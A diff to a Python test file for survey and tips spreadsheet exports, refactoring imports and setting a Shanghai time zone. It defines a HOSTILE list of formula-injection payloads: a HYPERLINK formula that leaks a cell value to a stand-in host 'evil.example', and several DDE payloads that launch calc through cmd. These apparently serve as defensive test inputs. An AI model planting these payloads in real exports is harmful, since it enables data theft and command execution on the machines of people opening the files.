@@ -6,6 +6,7 @@ from __future__ import annotations
 import datetime as dt
 import io
 import zipfile
+from zoneinfo import ZoneInfo
 
 import pytest
 from openpyxl import load_workbook
@@ -21,8 +22,9 @@ from handlers.survey import export as survey_export
 from handlers.survey.scoring import Report
 from handlers.tips import export as tips_export
 from knowledge.service import KnowledgeService
-from tests.conftest import Person
-from tests.test_tips import ZONE, Reporter
+from tests.helpers import Person, Reporter
+
+ZONE = ZoneInfo("Asia/Shanghai")
 
 HOSTILE = ['=HYPERLINK("http://evil.example/steal?d="&A2,"详情")', "\t=1+1", "\r=1+1", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
